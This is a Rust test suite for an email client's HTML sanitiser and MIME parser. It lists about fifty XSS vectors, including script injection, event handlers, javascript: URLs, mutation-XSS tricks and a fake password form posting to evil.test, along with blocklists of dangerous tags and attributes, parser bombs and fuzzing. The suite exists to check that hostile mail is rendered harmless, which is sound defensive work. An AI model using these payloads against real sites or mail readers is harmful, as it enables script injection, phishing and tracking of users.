//! Messages made to harm: by what they show, and by what reading them costs.
#![expect(clippy::unwrap_used, reason = "a test that cannot go on has failed")]

use std::sync::atomic::{AtomicUsize, Ordering};

use mail::mime::MimeKit;
use rand::{Rng, SeedableRng, rngs::StdRng};
use service::ports::{Mime, ParsedBody};

fn message(html: &str) -> Vec<u8> {
    format!("From: eve@evil.test\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}").into_bytes()
}

/// What stands in the frame's body.
fn shown(html: &str, remote: bool) -> String {
    let document = MimeKit.document(&message(html), remote).unwrap();
    let (_, body) = document.split_once("<body>").unwrap();
    body.strip_suffix("</body></html>\n").unwrap().to_owned()
}

fn wants_remote(html: &str) -> bool {
    matches!(
        MimeKit.parse(&message(html)).unwrap().body,
        ParsedBody::Html { remote: true, .. }
    )
}

const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\"\"onerror=\"alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><a title=\"</svg><img src onerror=alert(1)>\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java&#9;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;vascript&colon;alert(1)\">x</a>",
    "<a href=\" \u{1}javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"cid:x\">x</a>",
    "<a href=\"//evil.test/x\">x</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe><iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object><embed src=x>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.test/\"><base href=\"https://evil.test/\">",
    "<link rel=stylesheet href=https://evil.test/x.css><link rel=preload href=x>",
    "<style>@import url(https://evil.test/x.css); body{background:url(https://evil.test/x)}</style>",
    "<form action=https://evil.test/><input name=password><button formaction=javascript:alert(1)>Sign in</button></form>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:99\">Sign in again</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"background:u\\72l(https://evil.test/x)\">x</div>",
    "<div style=\"background:url(https://evil.test/x)\">x</div>",
    "<div style=\"color:red;background-image:image-set('https://evil.test/x' 1x)\">x</div>",
    "<div style='font-family:\"</style><script>alert(1)</script>\"'>x</div>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<img srcset=\"https://evil.test/x 1x\" src=\"https://evil.test/y\" lowsrc=https://evil.test/z dynsrc=https://evil.test/q>",
    "<picture><source srcset=https://evil.test/x><img src=https://evil.test/y></picture>",
    "<table background=https://evil.test/x><tr><td background=\"https://evil.test/y\">x</table>",
    "<video poster=https://evil.test/x><source src=https://evil.test/y></video><audio src=https://evil.test/y></audio>",
    "<input type=image src=https://evil.test/x><bgsound src=https://evil.test/x>",
    "<body onload=alert(1) background=https://evil.test/x style=\"background:url(https://evil.test/x)\">x",
    "<body bgcolor=\"red&quot; onclick=alert(1)\"><p>x",
    "<a href=https://good.test target=_top rel=opener onclick=alert(1)>x</a>",
    "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>",
    "<title><img src=x onerror=alert(1)></title><textarea></textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>--> <!--[if IE]><script>alert(1)</script><![endif]-->",
    "<portal src=https://evil.test></portal><isindex action=javascript:alert(1)>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'><script>alert(1)</script></svg>#x\"/></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>x</text></a>",
    "<p class=\"verbatim\" id=\"root\" data-x=1 aria-label=x>x</p>",
];

/// No tag, handler, scheme or style in it that could do anything.
fn assert_tame(body: &str, vector: &str, remote: bool) {
    let lower = body.to_ascii_lowercase();
    for tag in [
        "script", "svg", "math", "iframe", "object", "embed", "meta", "base", "link", "style", "form",
        "input", "button", "video", "audio", "source", "template", "noscript", "textarea", "title", "xmp",
        "portal", "body", "picture",
    ] {
        assert!(
            !lower.contains(&format!("<{tag}")),
            "{tag} in {body} from {vector}"
        );
    }
    // Attribute values that were texts are escaped: a `<` always opens one of our tags.
    for tag in lower.split('<').skip(1) {
        let tag = tag.split('>').next().unwrap();
        for handler in [
            "onerror",
            "onload",
            "onclick",
            "srcset",
            "formaction",
            "srcdoc",
            "lowsrc",
            "position",
            "expression",
            "javascript",
            "vbscript",
            "image-set",
            "class=\"verbatim",
            " id=",
            "data:text",
            "data:image/svg",
        ] {
            let quoted_text = tag.contains("title=");
            assert!(
                quoted_text || !tag.contains(handler),
                "{handler} in <{tag}> from {vector}"
            );
        }
        if !remote {
            assert!(!tag.contains("evil.test"), "{tag} from {vector}");
        }
        if tag.starts_with("a ") {
            assert!(
                tag.contains("target=\"_blank\"") && tag.contains("rel=\"noopener noreferrer\""),
                "{tag}"
            );
            assert!(
                !tag.contains("target=\"_top\"") && !tag.contains("rel=\"opener\""),
                "{tag}"
            );
        }
    }
}

#[test]
fn nothing_that_runs_frames_covers_or_calls_home_is_shown() {
    for vector in VECTORS {
        for remote in [false, true] {
            let body = shown(vector, remote);
            assert_tame(&body, vector, remote);
            // Once more round: what was text must not have become markup (mutation).
            assert_tame(&shown(&body, remote), &body, remote);
        }
    }
}

#[test]
fn what_a_mail_is_made_of_stays() {
    let html = "<html><head><title>No</title><style>p{color:red}</style></head><body bgcolor=\"#000000\" text=white>\
        <h1>Sale</h1><table width=600 cellpadding=0 border=0><tr><td colspan=2 style=\"padding:4px;color:#fff\">\
        <font color=red size=2 face=Arial>Hi</font> <a href=\"https://shop.test/?a=1&amp;b=2\">Shop</a> \
        <a href=mailto:bob@demo.test>Bob</a> <a href=tel:+33123>Call</a></td></tr></table>\
        <p class=\"MsoNormal other\">Word</p></body></html>";
    let body = shown(html, false);
    for kept in [
        "<div style=\"background-color:#000000;color:white\">",
        "<h1>Sale</h1>",
        "cellpadding=\"0\"",
        "colspan=\"2\"",
        "padding:4px;color:#fff",
        "<font",
        "href=\"https://shop.test/?a=1&amp;b=2\"",
        "href=\"mailto:bob@demo.test\"",
        "href=\"tel:+33123\"",
        "class=\"MsoNormal\"",
    ] {
        assert!(body.contains(kept), "{kept} not in {body}");
    }
    assert!(!body.contains(">No<") && !body.contains("p{color"));
}

#[test]
fn pictures_from_elsewhere_wait_until_asked_for_and_are_announced() {
    for (html, remote) in [
        ("<img src=https://shop.test/x.png alt=Logo>", true),
        ("<img src=\"HTTP://shop.test/x.png\">", true),
        ("<td background=https://shop.test/x.png>", true),
        ("<p style=\"background:url('https://shop.test/x.png')\">", true),
        ("<img src=cid:x>", false),
        ("<a href=https://shop.test/>https://shop.test/x.png</a>", false),
        ("<style>p{background:url(https://shop.test/x.png)}</style>", false),
        ("<!-- <img src=https://shop.test/x.png> -->", false),
        ("<p style=\"color:red\">https://", false),
    ] {
        assert_eq!(wants_remote(html), remote, "{html}");
        assert!(!shown(html, false).contains("shop.test/x.png\""), "{html}");
    }
    assert_eq!(
        shown("<img src=https://shop.test/x.png alt=Logo>", false),
        "<img alt=\"Logo\">"
    );
    assert_eq!(
        shown("<img src=https://shop.test/x.png alt=Logo>", true),
        "<img src=\"https://shop.test/x.png\" alt=\"Logo\">"
    );
    let styled = shown(
        "<table><tr><td style=\"background:#fff url('https://shop.test/x.png')\">x</table>",
        true,
    );
    assert!(styled.contains("https://shop.test/x.png"), "{styled}");
}

#[test]
fn bombs_are_shown_as_words_in_reasonable_time() {
    let started = std::time::Instant::now();
    let formatting: String = (0..20_000).map(|n| format!("<b id={n}>")).collect();
    for bomb in [
        format!("{formatting}{}", "<p>word".repeat(20_000)),
        format!("{}word", "<div>".repeat(300_000)),
        format!("word{}", "<table><tr><td>".repeat(100_000)),
        format!("<a href='{}", "x".repeat(2_000_000)),
        "<!--".repeat(500_000),
        "</x".repeat(500_000),
        "<script><".repeat(200_000),
        format!("<p style=\"{}\">word", "color:red;(".repeat(100_000)),
        format!("{}word", "<style>".repeat(100_000)),
    ] {
        let octets = message(&bomb);
        MimeKit.parse(&octets).unwrap();
        let document = MimeKit.document(&octets, false).unwrap();
        assert!(document.len() < 10 << 20);
    }
    assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());
}

#[test]
fn messages_in_messages_are_opened_only_so_deep() {
    let nested = "Content-Type: message/rfc822\r\n\r\n".repeat(200_000) + "From: eve@evil.test\r\n\r\nword";
    assert!(MimeKit.parse(nested.as_bytes()).is_ok());
    let digest: String = (0..20_000)
        .map(|n| format!("Content-Type: multipart/digest; boundary=b{n}\r\n\r\n--b{n}\r\n\r\n"))
        .collect();
    assert!(MimeKit.parse(digest.as_bytes()).is_ok());
    let multi: String = (0..5_000)
        .map(|n| format!("Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n"))
        .collect();
    assert!(MimeKit.parse(multi.as_bytes()).is_ok());
    let parts = format!(
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n{}",
        "--b\r\nContent-Type: a/b\r\n\r\n\r\n".repeat(20_000)
    );
    assert!(MimeKit.parse(parts.as_bytes()).unwrap().attachments.len() <= 1000);
}

#[test]
fn one_picture_used_often_does_not_fill_the_memory() {
    let picture = "QUJD".repeat(300_000);
    let html = "<img src=cid:p>".repeat(500);
    let octets = format!(
        "From: eve@evil.test\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n{html}\r\n\
         --b\r\nContent-Type: image/png\r\nContent-ID: <p>\r\nContent-Transfer-Encoding: base64\r\n\r\n{picture}\r\n--b--\r\n"
    );
    let document = MimeKit.document(octets.as_bytes(), false).unwrap();
    assert!(document.len() < 50 << 20, "{}", document.len());
    assert!(document.contains("data:image/png;base64,QUJD"));
}

/// Everything a reader may do with a message.
fn read_all(octets: &[u8]) {
    if let Ok(parsed) = MimeKit.parse(octets) {
        for attachment in parsed.attachments.iter().take(20) {
            let _ = MimeKit.part(octets, attachment.part);
        }
        assert!(parsed.preview.chars().count() <= 200);
        assert!(!parsed.preview.contains('\n'));
    }
    let _ = MimeKit.document(octets, true);
    for part in 0..4 {
        let _ = MimeKit.part(octets, part);
    }
}

#[test]
fn no_octets_can_make_a_reader_panic() {
    // Panics of a parser are caught and told as "not a message"; here they are counted.
    static PANICS: AtomicUsize = AtomicUsize::new(0);
    let loud = std::panic::take_hook();
    std::panic::set_hook(Box::new(move |info| {
        PANICS.fetch_add(1, Ordering::Relaxed);
        loud(info);
    }));
    let whole = include_bytes!("mime_hostile.eml");
    for end in 0..whole.len() {
        read_all(&whole[..end]);
    }
    let mut random = StdRng::seed_from_u64(2026);
    for _ in 0..1_500 {
        let mut octets = whole.to_vec();
        for _ in 0..random.random_range(1..30) {
            let at = random.random_range(0..octets.len());
            match random.random_range(0..4) {
                0 => octets[at] = random.random(),
                1 => {
                    octets.remove(at);
                }
                2 => octets.insert(at, b"\r\n-=;:\"<>\0 "[random.random_range(0..11)]),
                _ => {
                    let end = (at + random.random_range(0..60)).min(octets.len());
                    let piece = octets[at..end].to_vec();
                    let to = random.random_range(0..octets.len());
                    octets.splice(to..to, piece);
                }
            }
        }
        read_all(&octets);
    }
    for _ in 0..1_000 {
        let octets: Vec<u8> = (0..random.random_range(0..400))
            .map(|_| random.random())
            .collect();
        read_all(&octets);
        let mut headed = b"Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n".to_vec();
        headed.extend(octets);
        read_all(&headed);
    }
    assert_eq!(PANICS.load(Ordering::Relaxed), 0);
}
